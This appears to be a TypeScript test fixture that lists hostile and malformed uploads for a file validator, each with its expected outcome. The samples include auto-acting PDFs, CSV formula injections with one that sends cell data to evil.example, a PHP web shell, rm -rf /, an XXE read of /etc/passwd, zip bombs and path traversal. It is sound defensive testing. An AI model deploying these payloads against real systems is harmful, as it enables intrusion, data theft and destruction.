/** Files as strangers send them: honest ones, broken ones, and those that are made to do harm, each with what becomes of it. */
import { deflateRawSync, deflateSync } from "node:zlib";
import sharp from "sharp";
import { compound, openDocument, openXml, openXmlOf, zipOf } from "./archives.js";
import { aPng, pngChunk, pngHeader, pngSignature } from "./files.js";

/** Why it is refused, by a word of the refusal. */
export type Why =
  | "kind"
  | "damaged"
  | "pixels"
  | "macros"
  | "programs"
  | "password"
  | "unpacked"
  | "UTF-8"
  | "empty"
  | "HEIC"
  | "outside"
  | "acts"
  | "by itself"
  | "commands";

export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
  readonly becomes:
    | { readonly refused: Why }
    | { readonly type: string; readonly name?: string; readonly locked?: true };
  /** What must not be in what is kept. */
  readonly without?: RegExp;
}

const latin = (text: string): Buffer => Buffer.from(text, "latin1");
const bytes = (...values: (number | string | Buffer)[]): Buffer =>
  Buffer.concat(
    values.map((value) =>
      typeof value === "number" ? Buffer.from([value]) : typeof value === "string" ? latin(value) : value,
    ),
  );
const zeros = (n: number): Buffer => Buffer.alloc(n);

const grey = (width = 40, height = 20) => sharp({ create: { width, height, channels: 3, background: "#888" } });
const jpeg = (): Promise<Buffer> => grey().jpeg().toBuffer();
const gps = {
  IFD0: { Make: "Telephone of the reporter" },
  IFD3: { GPSLatitudeRef: "N", GPSLatitude: "31/1 57/1 0/1" },
};
const located = (): Promise<Buffer> => grey().withExif(gps).jpeg().toBuffer();
const frames = (n: number): Promise<Buffer> =>
  sharp(Buffer.from(Array.from({ length: n * 16 * 3 }, (_none, i) => (i * 7) % 256)), {
    raw: { width: 4, height: 4 * n, channels: 3, pageHeight: 4 },
  })
    .gif({ loop: 0, delay: Array.from({ length: n }, () => 50) })
    .toBuffer();

export const aPdf = (body = ""): Buffer =>
  latin(`%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n${body}\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);
const packedPdf = (objects: string): Buffer => {
  const packed = deflateSync(latin(objects));
  return bytes(
    `%PDF-1.7\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
    packed,
    "\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
  );
};
/** A PDF whose catalog says this, and further objects; objects 2 and up. */
const opening = (catalog: string, ...objects: string[]): Buffer =>
  latin(
    `%PDF-1.7\n1 0 obj<</Type/Catalog${catalog}>>endobj\n${objects.map((one, i) => `${i + 2} 0 obj${one}endobj\n`).join("")}trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
  );
/** The same with object 2 packed, in a stream that is described as `head` says. */
const openingPacked = (
  object: string,
  head = "/Type/ObjStm",
  spoil = (packed: Buffer): Buffer => packed,
  first = 4,
): Buffer => {
  const packed = spoil(deflateSync(latin(`2 0 ${object}`)));
  return bytes(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n",
    `5 0 obj<<${head}/N 1/First ${first}/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
    packed,
    "\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
  );
};
/** An object that opens an address, behind the word that ends streams: said in a comment, packed without being changed. */
const behindAnEnd = (): Buffer => {
  const comment = latin("2 0 %endstream\n");
  const rest = deflateRawSync(latin("<</S/URI/URI(https://evil.example)>>"));
  const length = Buffer.from([comment.length, 0, 255 - comment.length, 255]);
  return bytes(0x78, 0x9c, 0, length, comment, rest, zeros(4));
};
const megabyte = 1024 * 1024;
const repeated = (unit: string, size = megabyte): Buffer => Buffer.alloc(size, unit, "latin1");
/** Bytes that do not pack, so that the others may pack well. */
const noise = (size: number): Buffer =>
  Buffer.from(Uint8Array.from({ length: size }, (_none, i) => (i * i * 7919) >> 5));
const relationship = (type: string, target: string, part = "word/_rels/settings.xml.rels"): Buffer =>
  openXml("docx", {
    name: part,
    data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const ftyp = (brand: string): Buffer => bytes(zeros(3), 24, "ftyp", brand, zeros(4), brand, "isom", zeros(64));
const ebml = (type: string): Buffer =>
  bytes(
    0x1a,
    0x45,
    0xdf,
    0xa3,
    0x80 + type.length + 3,
    0x42,
    0x82,
    0x80 + type.length,
    type,
    0x18,
    0x53,
    0x80,
    0x67,
    zeros(64),
  );
const script = "<script>alert(document.cookie)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const bomb = zeros(60 * 1024 * 1024);
const program = bytes("MZ", zeros(76), "This program cannot be run in DOS mode.", zeros(64));

const taken = (
  what: string,
  name: string,
  make: HostileFile["bytes"],
  type: string,
  more: { name?: string; locked?: true; without?: RegExp } = {},
): HostileFile => {
  const { without, ...said } = more;
  return { what, name, bytes: make, becomes: { type, ...said }, ...(without && { without }) };
};
const refused = (why: Why, what: string, name: string, make: HostileFile["bytes"]): HostileFile => ({
  what,
  name,
  bytes: make,
  becomes: { refused: why },
});

const office = "application/vnd.openxmlformats-officedocument";
const open = "application/vnd.oasis.opendocument";

const images: readonly HostileFile[] = [
  taken("a photo that says where it was taken", "home.jpg", located, "image/jpeg", { without: /Exif|GPS|Telephone/ }),
  taken(
    "a photo with a remark that is a script",
    "remark.jpg",
    async () => {
      const plain = await jpeg();
      const remark = latin(`${script}`);
      return Buffer.concat([
        plain.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, remark.length + 2]),
        remark,
        plain.subarray(2),
      ]);
    },
    "image/jpeg",
    { without: /script/ },
  ),
  taken(
    "a picture with a text inside that is a script",
    "text.png",
    () => aPng(8, 8, pngChunk("tEXt", latin(`Comment\0${script}`))),
    "image/png",
    { without: /script/ },
  ),
  taken(
    "a picture with an archive behind it",
    "and.jpg",
    async () => Buffer.concat([await jpeg(), zipOf([{ name: "a.js", data: script }])]),
    "image/jpeg",
    { without: /a\.js/ },
  ),
  taken(
    "a picture with a page behind it",
    "page.png",
    () => Buffer.concat([aPng(), latin(`<html>${script}`)]),
    "image/png",
    { without: /html/ },
  ),
  taken(
    "an animation with a script behind it",
    "x.gif",
    async () => Buffer.concat([await frames(3), latin(script)]),
    "image/gif",
    { without: /script/ },
  ),
  taken("a picture called a program", "holiday.png.exe", () => aPng(), "image/png", { name: "holiday.png.png" }),
  taken("a photo called a picture of another kind", "photo.png", jpeg, "image/jpeg", { name: "photo.jpg" }),
  taken("a photo with its other ending", "photo.JPEG", jpeg, "image/jpeg", { name: "photo.jpeg" }),
  taken("WebP", "a.webp", () => grey().webp().toBuffer(), "image/webp"),
  taken("a script that is called an image by its sender", "x.png", () => latin("alert(1)\n"), "text/plain", {
    name: "x.txt",
  }),
  refused("pixels", "a picture that claims to be 60,000 wide", "huge.png", () =>
    Buffer.concat([pngSignature, pngHeader(60_000, 60_000), pngChunk("IDAT", zeros(20)), pngChunk("IEND", zeros(0))]),
  ),
  refused("pixels", "a picture that is a line of 20,000", "line.png", () => aPng(20_000, 2)),
  refused("pixels", "a picture of 144 million pixels in 140 KB", "bomb.png", () => aPng(12_000, 12_000)),
  refused("pixels", "an animation of 300 pictures", "long.gif", () => frames(300)),
  refused("pixels", "an animation of 51 pictures", "long.gif", () => frames(51)),
  taken("an animation of 50 pictures", "long.gif", () => frames(50), "image/gif"),
  refused("pixels", "an animation of 28 million pixels in a few kilobytes", "anim.webp", () =>
    sharp(Buffer.concat(Array.from({ length: 40 }, (_none, i) => Buffer.alloc(836 * 836 * 3, i * 6))), {
      raw: { width: 836, height: 836 * 40, channels: 3, pageHeight: 836 },
    })
      .webp({ effort: 0 })
      .toBuffer(),
  ),
  refused("pixels", "a photo of 26 million pixels that comes from coarse to fine", "large.jpg", () =>
    sharp({ create: { width: 5100, height: 5100, channels: 3, background: "#888" } })
      .jpeg({ progressive: true })
      .toBuffer(),
  ),
  refused("damaged", "half a picture", "half.png", () => aPng(200, 200).subarray(0, 90)),
  refused("damaged", "half a photo", "half.jpg", async () => (await grey(400, 400).jpeg().toBuffer()).subarray(0, 900)),
  refused("kind", "the first eight bytes of a picture", "sign.png", () => Buffer.concat([pngSignature, zeros(40)])),
  refused("damaged", "a page that begins like a photo", "page.jpg", () =>
    bytes(0xff, 0xd8, 0xff, 0xe0, `<html>${script}</html>`),
  ),
  refused("damaged", "a script that begins like an animation", "x.gif", () =>
    latin(`GIF89a/*${"\0".repeat(20)}*/=1;${script}`),
  ),
  refused("damaged", "a WebP without a picture", "x.webp", () =>
    bytes("RIFF", Buffer.from([24, 0, 0, 0]), "WEBPVP8 ", zeros(20)),
  ),
  refused("kind", "a drawing with a script", "drawing.svg", () => latin(svg)),
  refused("kind", "a drawing with a script, called a picture", "drawing.png", () =>
    latin(`<?xml version="1.0"?>\n${svg}`),
  ),
  refused("kind", "a drawing behind blanks and a remark", "drawing.txt", () => latin(`   \n<!-- a -->${svg}`)),
  refused("kind", "a page called a photo", "photo.jpg", () => latin(`<!DOCTYPE html><html>${script}</html>`)),
  refused("kind", "BMP", "a.bmp", () => bytes("BM", Buffer.from([70, 0, 0, 0]), zeros(64))),
  refused("kind", "TIFF", "a.tif", () => bytes("II*\0", Buffer.from([8, 0, 0, 0]), zeros(64))),
  refused("kind", "an icon", "a.ico", () => bytes(0, 0, 1, 0, 1, 0, zeros(32))),
  refused("kind", "a picture of Photoshop", "a.psd", () => bytes("8BPS", 0, 1, zeros(64))),
  refused("kind", "JPEG XL", "a.jxl", () => bytes(0xff, 0x0a, zeros(64))),
  refused("HEIC", "a photo of a telephone in HEIC", "IMG_1.HEIC", () => ftyp("heic")),
  refused("HEIC", "AVIF", "a.avif", () => ftyp("avif")),
];

const documents: readonly HostileFile[] = [
  taken("PDF", "letter.pdf", () => aPdf(), "application/pdf"),
  refused("acts", "a PDF that would run a script where it is opened", "js.pdf", () =>
    aPdf("<</S/JavaScript/JS(app.alert(1))>>"),
  ),
  refused("acts", "a PDF whose script is written in digits", "js.pdf", () => aPdf("<</S/J#61vaScr#69pt/JS(x)>>")),
  refused("by itself", "a PDF that opens an address by itself", "a.pdf", () =>
    opening("/OpenAction<</S/URI/URI(https://evil.example)>>"),
  ),
  refused("by itself", "a PDF that sends a form by itself, elsewhere in the file", "a.pdf", () =>
    opening("/OpenAction 2 0 R", "<</S/SubmitForm/F(https://evil.example)>>"),
  ),
  refused("by itself", "a PDF that opens another file by itself, written in digits", "a.pdf", () =>
    opening("/Open#41ction 2 0 R", "<</#53/GoTo#52/F(\\\\\\\\evil.example\\\\x.pdf)>>"),
  ),
  refused("by itself", "a PDF that opens an attached file by itself", "a.pdf", () =>
    opening("/OpenAction<</S/GoToE/T<</R/C>>>>"),
  ),
  refused("by itself", "a PDF that brings in data by itself", "a.pdf", () =>
    opening("/OpenAction<</S/ImportData/F(a)>>"),
  ),
  refused("by itself", "a PDF that prints itself", "a.pdf", () => opening("/OpenAction<</S/Named/N/Print>>")),
  refused("by itself", "a PDF that shows a page and then opens an address", "a.pdf", () =>
    opening("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[2 0 R]>>", "<</S/URI/URI(https://evil.example)>>"),
  ),
  refused("by itself", "a PDF whose action is of a kind that stands elsewhere", "a.pdf", () =>
    opening("/OpenAction<</S 2 0 R/URI(https://evil.example)>>", "/URI"),
  ),
  refused("by itself", "a PDF whose harmless action is an old version of another", "a.pdf", () =>
    bytes(opening("/OpenAction 2 0 R", "<</S/URI/URI(x)>>"), opening("/OpenAction 2 0 R", "<</S/GoTo/D[3 0 R/Fit]>>")),
  ),
  refused("by itself", "a PDF with a page that opens an address when it is looked at", "a.pdf", () =>
    opening("", "<</Type/Page/AA<</O 3 0 R>>>>", "<</S/URI/URI(https://evil.example)>>"),
  ),
  refused("by itself", "a PDF that opens an address when it is closed", "a.pdf", () =>
    opening("/AA 2 0 R", "<</WC<</S/URI/URI(https://evil.example)>>>>"),
  ),
  refused("by itself", "a PDF whose action is packed", "a.pdf", () =>
    openingPacked("<</S/URI/URI(https://evil.example)>>"),
  ),
  refused("by itself", "a PDF whose action is packed in a stream that does not say so", "a.pdf", () =>
    openingPacked("<</S/URI/URI(https://evil.example)>>", ""),
  ),
  refused("acts", "a PDF whose script is packed, with a sum that is wrong", "a.pdf", () =>
    openingPacked("<</S/JavaScript/JS(x)>>", "", (packed) => packed.fill(0, packed.length - 4)),
  ),
  refused("acts", "a PDF whose script is packed and said to be locked", "a.pdf", () =>
    openingPacked("<</S/JavaScript/JS(x)>>", "/X(/Encrypt 9 0 R)"),
  ),
  refused("by itself", "a PDF whose action is packed behind a word that ends streams", "a.pdf", () =>
    openingPacked("", "/Type/ObjStm", behindAnEnd, 15),
  ),
  refused("damaged", "a PDF whose action is written behind a word that ends streams", "a.pdf", () =>
    bytes(
      "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n5 0 obj<</Type/ObjStm/N 1/First 15>>stream\n",
      "2 0 %endstream\n<</S/URI/URI(https://evil.example)>>\nendstream endobj\n",
      "trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
    ),
  ),
  refused("acts", "a PDF with objects that are written in steps", "a.pdf", () =>
    openingPacked("<</S/GoTo>>", "/DecodeParms<</Predictor 12/Columns 4>>"),
  ),
  refused("damaged", "a PDF whose objects are packed and spoiled", "a.pdf", () =>
    openingPacked("<</S/GoTo>>", "", (packed) => packed.fill(0x07, 2)),
  ),
  taken("a PDF that opens at a page", "a.pdf", () => opening("/OpenAction[2 0 R/XYZ null null 0]"), "application/pdf"),
  taken(
    "a PDF that goes to a page, and in circles",
    "a.pdf",
    () => opening("/OpenAction 2 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 2 0 R>>"),
    "application/pdf",
  ),
  taken("a PDF that turns a page", "a.pdf", () => opening("/AA<</O<</S/Named/N/NextPage>>>>"), "application/pdf"),
  taken(
    "a PDF with a link to click on, and one that is pressed",
    "a.pdf",
    () =>
      opening(
        "/URI<</Base(https://www.example.jo)>>",
        "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.example.jo)>>>>",
        "<</Type/Annot/Subtype/Widget/AA<</U<</S/SubmitForm/F(https://www.example.jo)>>>>>>",
      ),
    "application/pdf",
  ),
  taken(
    "a megabyte of marks of packed objects",
    "a.pdf",
    () => bytes("%PDF-1.7\n", repeated(`${"/ObjStm".repeat(250)}/Filter/Fl stream\n`), "\n%%EOF\n"),
    "application/pdf",
  ),
  refused("damaged", "a megabyte of objects, each within the one before", "a.pdf", () =>
    bytes("%PDF-1.7\n", repeated("1 0 obj<<("), "\n%%EOF\n"),
  ),
  refused("damaged", "a thousand streams of objects out of the same bytes", "a.pdf", () =>
    bytes(
      "%PDF-1.7\n",
      repeated("1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n", 50_000),
      deflateSync(zeros(15 * megabyte)),
      "\nendstream\n%%EOF\n",
    ),
  ),
  refused("unpacked", "streams of objects that become fifty megabytes", "a.pdf", () => {
    const packed = deflateSync(zeros(15 * megabyte));
    const one = bytes("1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n", packed, "\nendstream endobj\n");
    return bytes("%PDF-1.7\n", one, one, one, one, "%%EOF\n");
  }),
  refused("unpacked", "a letter of a few hundred kilobytes with forty megabytes of fields", "a.docx", () =>
    openXml(
      "docx",
      { name: "word/header1.xml", data: repeated("<w:instrText>&lt;<", 20 * megabyte) },
      { name: "word/header2.xml", data: repeated("<w:instrText>&lt;<", 20 * megabyte) },
      { name: "word/media/image1.png", data: noise(400_000), stored: true },
    ),
  ),
  refused("damaged", "an archive with names as long as books", "a.docx", () =>
    openXml("docx", { name: `${"activeX/".repeat(7000)}\n`, data: "x" }),
  ),
  refused("acts", "a PDF that starts a program", "a.pdf", () => aPdf("<</S/Launch/F(cmd.exe)>>")),
  refused("acts", "a PDF with files attached", "a.pdf", () => aPdf("<</Names<</EmbeddedFiles 5 0 R>>>>")),
  refused("acts", "a PDF whose script is packed", "a.pdf", () => packedPdf("1 0 <</S/JavaScript/JS(app.alert(1))>>")),
  taken(
    "a PDF with packed objects and nothing else in them",
    "a.pdf",
    () => packedPdf("1 0 <</Type/Page>>"),
    "application/pdf",
  ),
  taken("a PDF about launches", "a.pdf", () => aPdf("<</Title(Launch of JavaScript)/LaunchPad 1>>"), "application/pdf"),
  taken("a PDF with a password", "locked.pdf", () => aPdf("trailer<</Encrypt 5 0 R>>"), "application/pdf", {
    locked: true,
  }),
  taken("a PDF called a page", "x.html", () => aPdf(), "application/pdf", { name: "x.pdf" }),
  refused("damaged", "half a PDF", "half.pdf", () => aPdf("x".repeat(5000)).subarray(0, 3000)),
  refused("damaged", "the first bytes of a PDF", "sign.pdf", () => latin("%PDF-1.7\n")),
  refused("damaged", "a PDF that is an archive as well", "both.pdf", () =>
    Buffer.concat([aPdf(), zipOf([{ name: "a.js", data: "x" }])]),
  ),
  refused("damaged", "a PDF with a page behind it", "behind.pdf", () =>
    Buffer.concat([aPdf(), latin(`<html>${script}${"x".repeat(2000)}`)]),
  ),
  refused("kind", "a page with a PDF behind it", "before.pdf", () => Buffer.concat([latin(`<html>${script}`), aPdf()])),
  taken("Word", "a.docx", () => openXml("docx"), `${office}.wordprocessingml.document`),
  taken("Excel", "a.xlsx", () => openXml("xlsx"), `${office}.spreadsheetml.sheet`),
  taken("PowerPoint", "a.pptx", () => openXml("pptx"), `${office}.presentationml.presentation`),
  taken("Word called Excel", "sums.xlsx", () => openXml("docx"), `${office}.wordprocessingml.document`, {
    name: "sums.docx",
  }),
  taken(
    "a table inside a letter",
    "a.docx",
    () => openXml("docx", { name: "word/embeddings/Sheet1.xlsx", data: openXml("xlsx"), stored: true }),
    `${office}.wordprocessingml.document`,
  ),
  taken("OpenDocument text", "a.odt", () => openDocument("text"), `${open}.text`),
  taken("OpenDocument table", "a.ods", () => openDocument("spreadsheet"), `${open}.spreadsheet`),
  taken("OpenDocument slides", "a.odp", () => openDocument("presentation"), `${open}.presentation`),
  refused("macros", "Word with macros by its type", "a.docm", () => openXml("docm")),
  refused("macros", "Word with macros, called one without", "a.docx", () =>
    openXml("docx", { name: "word/vbaProject.bin", data: "x" }),
  ),
  refused("macros", "Excel with macro sheets", "a.xlsx", () =>
    openXml("xlsx", { name: "xl/macrosheets/sheet1.xml", data: "<x/>" }),
  ),
  refused("macros", "OpenDocument with Basic", "a.odt", () =>
    openDocument("text", { name: "Basic/Standard/Module1.xml", data: "<x/>" }),
  ),
  refused("macros", "OpenDocument with a script", "a.odt", () =>
    openDocument("text", { name: "Scripts/python/a.py", data: "x" }),
  ),
  refused("password", "OpenDocument with a password", "a.odt", () =>
    openDocument("text", { name: "META-INF/manifest.xml", data: "<manifest:encryption-data/>" }),
  ),
  refused("password", "Word with an encrypted part", "a.docx", () =>
    openXml("docx", { name: "word/secret.xml", data: "x", flags: 1 }),
  ),
  refused("unpacked", "sixty megabytes in sixty kilobytes", "a.docx", () =>
    openXml("docx", { name: "word/media/1.xml", data: bomb }),
  ),
  refused("damaged", "sixty megabytes that say they are a hundred bytes", "a.docx", () =>
    openXml("docx", { name: "word/media/1.xml", data: bomb, claims: 100 }),
  ),
  refused("damaged", "a thousand entries out of the same bytes", "a.docx", () =>
    openXml(
      "docx",
      ...Array.from({ length: 1000 }, (_none, i) => ({ name: `word/${i}.xml`, data: "x", ...(i > 0 && { same: 2 }) })),
    ),
  ),
  refused("unpacked", "10,000 entries", "a.docx", () =>
    openXml("docx", ...Array.from({ length: 10_000 }, (_none, i) => ({ name: `word/${i}.xml`, data: "" }))),
  ),
  refused("unpacked", "a directory that claims 60,000 entries", "a.docx", () =>
    zipOf([{ name: "[Content_Types].xml" }], { entries: 60_000 }),
  ),
  refused("damaged", "a path out of the folder", "a.docx", () =>
    openXml("docx", { name: "../../../etc/cron.d/a", data: "x" }),
  ),
  refused("damaged", "a path from the root", "a.docx", () => openXml("docx", { name: "/etc/passwd", data: "x" })),
  refused("damaged", "a path of Windows", "a.docx", () =>
    openXml("docx", { name: "word\\..\\..\\a.dll.xml", data: "x" }),
  ),
  refused("damaged", "a drive of Windows", "a.docx", () => openXml("docx", { name: "C:/a.xml", data: "x" })),
  refused("damaged", "two entries of one name", "a.docx", () =>
    openXml("docx", { name: "word/document.xml", data: "other" }),
  ),
  refused("damaged", "a link to a file of the server", "a.docx", () =>
    openXml("docx", { name: "word/link.xml", data: "/etc/passwd", mode: 0o120777 }),
  ),
  refused("programs", "a program inside", "a.docx", () =>
    openXml("docx", { name: "word/embeddings/setup.exe", data: "x" }),
  ),
  refused("programs", "a program inside that is called a picture", "a.docx", () =>
    openXml("docx", { name: "word/media/image1.png", data: program, stored: true }),
  ),
  refused("programs", "a program of Linux inside", "a.docx", () =>
    openXml("docx", { name: "word/media/image1.png", data: bytes(0x7f, "ELF", zeros(60)) }),
  ),
  refused("outside", "a template from elsewhere", "a.docx", () =>
    relationship("attachedTemplate", "https://evil.example/t.dotm"),
  ),
  refused("outside", "a template from elsewhere, its mode in digits", "a.docx", () =>
    openXml("docx", {
      name: "word/_rels/settings.xml.rels",
      data: '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="&#69;xternal"/></Relationships>',
    }),
  ),
  refused("outside", "a template from elsewhere, in UTF-16", "a.docx", () =>
    openXml("docx", {
      name: "word/_rels/settings.xml.rels",
      data: Buffer.from(
        '\ufeff<Relationships><Relationship Type="x/attachedTemplate" Target="http://e.example" TargetMode="External"/></Relationships>',
        "utf16le",
      ),
    }),
  ),
  refused("outside", "a template on somebody's share", "a.docx", () =>
    relationship("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
  ),
  taken(
    "a letter after a template on its writer's own disk",
    "a.docx",
    () => relationship("attachedTemplate", "file:///C:\\Users\\a\\Letter.dotx"),
    word,
  ),
  refused("outside", "a picture from elsewhere, which tells who looked", "a.docx", () =>
    relationship("image", "https://evil.example/pixel.png", "word/_rels/document.xml.rels"),
  ),
  refused("outside", "an object from elsewhere", "a.docx", () =>
    relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
  ),
  refused("outside", "a link that starts a program", "a.docx", () => relationship("hyperlink", "search-ms:query=x")),
  taken("a letter with links", "a.docx", () => relationship("hyperlink", "https://www.example.jo/a?b=1&amp;c"), word),
  refused("outside", "a field that asks another program, in pieces", "a.docx", () =>
    openXml("docx", {
      name: "word/header1.xml",
      data: "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>",
    }),
  ),
  refused("outside", "a table that asks another program", "a.xlsx", () =>
    openXml("xlsx", {
      name: "xl/externalLinks/externalLink1.xml",
      data: '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
    }),
  ),
  refused("outside", "OpenDocument with a picture from elsewhere", "a.odt", () =>
    openDocument("text", { name: "styles.xml", data: '<draw:image xlink:href="https://evil.example/p.png"/>' }),
  ),
  taken(
    "OpenDocument with a link",
    "a.odt",
    () => openDocument("text", { name: "styles.xml", data: '<text:a xlink:href="https://www.example.jo">x</text:a>' }),
    `${open}.text`,
  ),
  refused("programs", "an object of another program", "a.docx", () =>
    openXml("docx", { name: "word/embeddings/oleObject1.bin", data: compound(["\u0001Ole10Native"]) }),
  ),
  refused("programs", "an object of another program, called a picture", "a.docx", () =>
    openXml("docx", { name: "word/media/image1.emf", data: compound(["\u0001Ole10Native"]) }),
  ),
  refused("programs", "a control", "a.docx", () =>
    openXml("docx", { name: "word/activeX/activeX1.xml", data: "<x/>" }),
  ),
  refused("programs", "an archive inside", "a.docx", () =>
    openXml("docx", { name: "word/more.zip", data: zipOf([{ name: "a", data: bomb.subarray(0, 1000) }]) }),
  ),
  refused("programs", "a page inside", "a.odt", () =>
    openDocument("text", { name: "Object/index.html", data: script }),
  ),
  refused("kind", "an archive", "a.zip", () => zipOf([{ name: "a.txt", data: "a" }])),
  refused("kind", "an archive called Word", "a.docx", () => zipOf([{ name: "a.txt", data: "a" }])),
  refused("kind", "a program of Java", "a.jar", () =>
    zipOf([
      { name: "META-INF/MANIFEST.MF", data: "Main-Class: A" },
      { name: "A.class", data: "x" },
    ]),
  ),
  refused("kind", "a book", "a.epub", () => zipOf([{ name: "mimetype", data: "application/epub+zip", stored: true }])),
  refused("kind", "an office file of a kind that there is not", "a.docx", () => openXmlOf("application/xml")),
  refused("kind", "an archive without anything", "a.docx", () => zipOf([])),
  refused("damaged", "half an archive", "a.docx", () => openXml("docx").subarray(0, 200)),
  refused("damaged", "an archive whose entries are not where it says", "a.docx", () => {
    const whole = openXml("docx");
    whole.writeUInt32LE(7, whole.indexOf("PK\u0001\u0002", 0, "latin1") + 42);
    return whole;
  }),
  refused("programs", "a name inside that ends early", "a.docx", () =>
    openXml("docx", { name: "word/a.xml\0.exe", data: "x" }),
  ),
  refused("damaged", "packed bytes that are none", "a.docx", () => {
    const whole = openXml("docx");
    return whole.fill(0xff, 60, 90);
  }),
  taken("Word of 1997", "a.doc", () => compound(["WordDocument", "1Table"]), "application/msword"),
  taken("Excel of 1997", "a.xls", () => compound(["Workbook"]), "application/vnd.ms-excel"),
  taken(
    "PowerPoint of 1997",
    "a.ppt",
    () => compound(["Current User", "Pictures", "a", "b", "PowerPoint Document"]),
    "application/vnd.ms-powerpoint",
  ),
  refused("macros", "Word of 1997 with macros", "a.doc", () => compound(["WordDocument", "Macros", "VBA"])),
  refused("macros", "Excel of 1997 with macros", "a.xls", () => compound(["Workbook", "_VBA_PROJECT_CUR"])),
  refused("password", "Word with a password", "a.docx", () => compound(["EncryptionInfo", "EncryptedPackage"])),
  refused("kind", "an installer", "a.doc", () => compound(["SummaryInformation"])),
  refused("damaged", "a directory that goes round in circles", "a.doc", () =>
    compound(["WordDocument", "a", "b", "c"], (whole) => whole.writeUInt32LE(1, 512 + 8)),
  ),
  refused("damaged", "the head of a compound file alone", "a.doc", () => compound(["WordDocument"]).subarray(0, 512)),
  refused("damaged", "sectors of two gigabytes", "a.doc", () =>
    compound(["WordDocument"], (whole) => whole.writeUInt16LE(31, 30)),
  ),
];

const texts: readonly HostileFile[] = [
  taken("an Arabic text", "ما جرى.txt", () => Buffer.from("انقطع الماء منذ أسبوع.\r\nلا جواب."), "text/plain", {
    name: "ما جرى.txt",
  }),
  taken("a table", "sums.csv", () => Buffer.from('الشهر,المبلغ\n"كانون",10\n'), "text/csv"),
  refused("commands", "a table that starts a program", "a.csv", () => latin("name,sum\n=cmd|'/C calc'!A0,1\n")),
  refused("commands", "a table that starts a program behind blanks", "a.csv", () =>
    latin("a;  +1+cmd|'/C calc'!A0;1\n"),
  ),
  refused("commands", "a table that calls up an address", "a.csv", () =>
    latin('name,sum\n"=HYPERLINK(""https://evil.example?""&A2,""open"")",1\n'),
  ),
  refused("commands", "a table that calls up an address within a formula", "a.csv", () =>
    latin('"=IF(1,WEBSERVICE(""https://evil.example""),2)"\n'),
  ),
  taken(
    "a megabyte of beginnings of commands",
    "a.csv",
    () => repeated(`${"\n".repeat(21)}=${"a|".repeat(250)}`),
    "text/csv",
  ),
  refused("commands", "a table that starts a program behind more blanks than anybody types", "a.csv", () =>
    latin(`${" ".repeat(5000)}=cmd${" ".repeat(5000)}|'/C calc'!A0\n`),
  ),
  refused("commands", "a table that starts a program across two pieces of a long table, with a comma", "a.csv", () =>
    latin(`${"a,b\n".repeat(65_535)}"=cmd|'/C a, b'!A0"\n`),
  ),
  refused("commands", "a table that calls a registered function", "a.csv", () => latin("=REGISTER.ID(a)\n")),
  taken("a table of remarks", "a.csv", () => latin('- my id (7),"- a list; of calls"\n-,"5""-6"" | x"\n'), "text/csv"),
  taken(
    "a table with sums and telephone numbers",
    "a.csv",
    () => latin("a,+962790123456,-5,=SUM(A1:A3),@x,- a | b\n"),
    "text/csv",
  ),
  taken("one letter", "a", () => latin("a"), "text/plain", { name: "a.txt" }),
  refused("kind", "a page called a text", "page.txt", () => latin(`<html><body>${script}`)),
  refused("kind", "a page behind a mark of its encoding", "page.txt", () => Buffer.from(`\ufeff<html>${script}`)),
  refused("kind", "a script in the midst of a text", "a.txt", () => latin(`${"a line\n".repeat(1000)}${script}`)),
  refused("kind", "a script across two pieces of a long text", "a.txt", () =>
    latin(`${"a".repeat(256 * 1024 - 4)}${script}`),
  ),
  refused("kind", "a script of a shell", "a.txt", () => latin("#!/bin/sh\nrm -rf /\n")),
  refused("kind", "PHP", "a.txt", () => latin("<?php system($_GET['c']);")),
  refused("kind", "XML", "a.xml", () =>
    latin('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ),
  refused("UTF-8", "a text of Windows", "a.txt", () => Buffer.from([0xe3, 0xe1, 0xc7, 0x20, 0xc7])),
  refused("UTF-8", "a text in UTF-16", "a.txt", () => Buffer.from("\ufeffa text", "utf16le")),
  refused("kind", "a text with a zero", "a.txt", () => latin("a\0b")),
  refused("UTF-8", "a text that commands the terminal", "a.txt", () => latin("\u001b]0;owned\u0007")),
  refused("UTF-8", "a letter that breaks off", "a.txt", () => Buffer.from("ماء").subarray(0, 5)),
  refused("empty", "nothing", "nothing.txt", () => zeros(0)),
  refused("kind", "zeros", "a.bin", () => zeros(4000)),
];

const programs: readonly HostileFile[] = [
  refused("kind", "a program of Windows", "letter.pdf", () => program),
  refused("kind", "a program of Linux", "a.txt", () => bytes(0x7f, "ELF", 2, 1, 1, zeros(60))),
